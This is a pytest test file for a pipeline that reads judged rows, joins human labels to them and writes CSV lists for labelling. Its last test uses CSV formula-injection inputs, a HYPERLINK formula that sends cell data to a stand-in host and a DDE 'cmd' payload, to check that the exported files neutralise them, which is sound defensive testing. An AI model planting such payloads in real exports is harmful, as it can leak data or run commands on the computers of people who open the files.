"""Judged rows as they are read, labels as they are joined to them, and the lists that people open."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pytest

from pipelines.core.errors import TooManyErrors, UserError
from pipelines.core.run import Run
from pipelines.experiments.calibrate import job
from pipelines.experiments.calibrate.config import CalibrateConfig
from pipelines.experiments.calibrate.rows import from_judgment, read
from pipelines.experiments.calibrate.values import Judged, number
from tests.experiments.test_calibrate import judged, lines, record_of


def test_names_are_taken_as_they_are_and_expressions_where_they_are_others(tmp_path: Path) -> None:
    path = lines(
        tmp_path / "a.jsonl", [{"id": 1, "system": "s", "prompt": "p", "score": 3}, {"system": "t", "score": 2}]
    )
    first, second = read(Run(tmp_path), CalibrateConfig(input=[path])).rows
    assert first == Judged("1", "s", "p", 3.0, None)
    assert second.prompt == second.id and second.id.startswith("row-")
    path = lines(tmp_path / "b.jsonl", [{"m": "s", "q": 7, "gpt": 4.5, "human": 4}])
    fields = {"system": "record.m", "prompt": "record.q", "score": "record.gpt", "label": "record.human"}
    (row,) = read(Run(tmp_path), CalibrateConfig(input=[path], fields=fields)).rows
    assert (row.system, row.prompt, row.score, row.label) == ("s", "7", 4.5, 4.0)


def test_rows_that_are_left_out_have_a_reason_and_too_many_of_them_end_the_job(tmp_path: Path) -> None:
    good = {"system": "s", "score": 1}
    records: list[Any] = [*[good] * 8, {"score": 1}, {**good, "score": None}, {**good, "skip": True}]
    path = lines(tmp_path / "a.jsonl", records)
    config = CalibrateConfig(input=[path], where={"skipped": "record.skip is not defined"})
    found = read(Run(tmp_path), config)
    assert len(found.rows) == 8
    assert found.reasons == {"error:MissingValue": 1, "filtered:no_score": 1, "filtered:skipped": 1}
    with pytest.raises(TooManyErrors, match=r"1 of 11 rows are errors, such as .*line 9"):
        read(Run(tmp_path, max_error_share=0.05), config)
    with pytest.raises(UserError, match=r"calibrate\.where\.odd: unknown name 'reccord'"):
        job.validate(CalibrateConfig(input=[path], where={"odd": "reccord.x"}))


def test_blank_text_is_no_value_and_a_row_without_a_score_is_filtered(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_text("id,system,prompt,score,label\n" + " , s , ,3, \n" * 8 + "7,s,p,4,5\n8,s,p, ,5\n")
    found = read(Run(tmp_path), CalibrateConfig(input=[str(path)]))
    assert [row.label for row in found.rows] == [None] * 8 + [5.0]
    assert len({row.id for row in found.rows}) == 9 and found.rows[0].prompt == found.rows[0].id
    assert found.reasons == {"filtered:no_score": 1}
    path.write_text("system,score\n ,3\n")
    with pytest.raises(TooManyErrors, match="no system"):
        read(Run(tmp_path), CalibrateConfig(input=[str(path)]))


@pytest.mark.parametrize("value", ["4_5", "nan", "1e999", True, "good"])
def test_what_is_no_number_is_none(value: Any) -> None:
    with pytest.raises(ValueError, match=r"number|float"):
        number(value)
    assert number(" 4.5 ") == 4.5


def test_labels_stay_on_their_rows_where_rows_without_ids_change_place(tmp_path: Path) -> None:
    records: list[Any] = [{"system": "s", "prompt": f"p{n // 2}", "score": 3} for n in range(6)]
    before = read(Run(tmp_path), CalibrateConfig(input=[lines(tmp_path / "a.jsonl", records)])).rows
    assert len({row.id for row in before}) == 6
    labels = lines(tmp_path / "labels.jsonl", [{"id": before[4].id, "label": 5}])
    for changed in ([{"system": "t", "prompt": "new", "score": 1}, *records], records[::-1]):
        path = lines(tmp_path / "b.jsonl", changed)
        rows = read(Run(tmp_path), CalibrateConfig(input=[path], labels=[labels])).rows
        assert [(row.system, row.prompt) for row in rows if row.label is not None] == [("s", "p2")]


def test_a_label_that_is_meant_for_another_row_is_refused(tmp_path: Path) -> None:
    rows = [{"id": n, "system": "=s", "prompt": f"p {n}", "score": n} for n in range(3)]
    config = CalibrateConfig(input=[lines(tmp_path / "a.jsonl", rows)], labels=[str(tmp_path / "labels.csv")])
    labels = tmp_path / "labels.csv"
    # An apostrophe of ours, a space that a spreadsheet added, lines that are empty.
    labels.write_text("id,prompt,system,label\n 1 ,p  1,'=s,4\n2,,, 5\n,,,\n,,,\n")
    assert [row.label for row in read(Run(tmp_path), config).rows] == [None, 4.0, 5.0]
    for line, which in (("1,p 2,=s,4", "prompt"), ("1,p 1,t,4", "system")):
        labels.write_text(f"id,prompt,system,label\n{line}\n")
        with pytest.raises(UserError, match=f"labels.csv line 2: the {which} of id '1' is ") as found:
            read(Run(tmp_path), config)
        assert "\n" not in str(found.value)
    labels.write_text("id,label\n,4\n")
    with pytest.raises(UserError, match="is no label: no id"):
        read(Run(tmp_path), config)


def test_labels_of_a_file_are_joined_by_id_and_unknown_ids_refused(tmp_path: Path) -> None:
    path = lines(tmp_path / "a.jsonl", [{"id": n, "system": "s", "score": n} for n in range(3)])
    labels = tmp_path / "labels.csv"
    labels.write_text("id,label\n1,4\n2,\n")
    found = read(Run(tmp_path), CalibrateConfig(input=[path], labels=[str(labels)]))
    assert [row.label for row in found.rows] == [None, 4.0, None]
    labels.write_text("id,label\n9,4\n")
    with pytest.raises(UserError, match="id '9' is that of 0 judged rows"):
        read(Run(tmp_path), CalibrateConfig(input=[path], labels=[str(labels)]))
    labels.write_text("id,label\n1,4\n1,3\n")
    with pytest.raises(UserError, match="id '1' comes twice"):
        read(Run(tmp_path), CalibrateConfig(input=[path], labels=[str(labels)]))
    labels.write_text("id,label\n1,good\n")
    with pytest.raises(UserError, match="is no label"):
        read(Run(tmp_path), CalibrateConfig(input=[path], labels=[str(labels)]))


@pytest.mark.parametrize(
    ("task", "allowed", "probabilities", "gold", "score", "label"),
    [
        ("absolute", ["1", "2", "3"], {"1": 0.25, "3": 0.25, "x": 0.5}, "2.5", 2.0, 2.5),
        ("pairwise", ["A", "B", "Tie"], {"A": 0.5, "B": 0.25, "Tie": 0.25}, "Tie", 0.625, 0.5),
        ("classification", ["Yes", "No"], {"Yes": 0.2, "No": 0.6}, "No", 0.25, 0.0),
    ],
)
def test_a_judgment_of_ours_gives_the_expected_verdict(
    task: str, allowed: list[str], probabilities: dict[str, float], gold: str, score: float, label: float
) -> None:
    judgment = {"task": task, "allowed": allowed, "verdict_probs": probabilities, "gold": gold, "order": "given"}
    judgment |= {"generators": ["m"], "group_id": "g", "judgment_id": "j", "subset": "s"}
    assert from_judgment(judgment) == {"system": "m", "prompt": "g", "score": score, "label": label, "id": "j"}
    assert from_judgment({**judgment, "order": "swapped"}) is None
    assert (from_judgment({**judgment, "verdict_probs": None}) or {})["score"] is None
    assert (from_judgment({**judgment, "generators": None}) or {})["system"] == "s"


def test_ids_that_rows_share_are_refused_before_anyone_labels(tmp_path: Path) -> None:
    rows = [{**record_of(row), "id": row.prompt, "label": None} for row in judged(50)]
    run, path = Run(tmp_path / "out"), lines(tmp_path / "a.jsonl", rows)
    with pytest.raises(UserError, match=r"calibrate\.fields\.id: id 'p0' is that of several judged rows") as found:
        job.run(run, CalibrateConfig(input=[path]))
    assert "a.jsonl line 1" in str(found.value) and "\n" not in str(found.value)
    assert not (run.calibrated / "to_label.csv").exists()
    with pytest.raises(UserError, match=r"name them in calibrate\.labels"):
        job.run(run, CalibrateConfig(input=[path], fields={"id": "none"}))
    assert (run.calibrated / "to_label.csv").exists()


def test_lists_that_people_open_hold_no_formulas_and_are_joined_all_the_same(tmp_path: Path) -> None:
    prompts = [
        '=HYPERLINK("http://x/?"&A1,"y")',
        "@SUM(1)",
        "\tx",
        "\rx",
        "-1+1",
        "'=quoted",
        "-5",
        "+cmd|' /C calc'!A0",
    ]
    rows = [{"system": "-s", "prompt": prompt, "score": n} for n, prompt in enumerate(prompts)]
    path = lines(tmp_path / "=a.jsonl", [*rows, {"system": "-s", "score": "=1+1"}])
    run = Run(tmp_path / "out", max_error_share=0.5)
    config = CalibrateConfig(input=[path], label_share=1.0)
    with pytest.raises(UserError, match="0 labels"):
        job.run(run, config)
    for name in ("to_label.csv", "left_out.csv"):
        with (run.calibrated / name).open(newline="") as file:
            table = list(csv.reader(file))
        assert not [cell for line in table for cell in line if cell != "-5" and cell[:1] in tuple("=+-@\t\r")]
    with (run.calibrated / "to_label.csv").open(newline="") as file:
        listed = list(csv.DictReader(file))
    labels = lines(tmp_path / "labels.jsonl", [{**one, "label": "4"} for one in listed])
    found = read(run, CalibrateConfig(input=[path], labels=[labels]))
    assert [(row.prompt, row.label) for row in found.rows] == [(prompt, 4.0) for prompt in prompts]
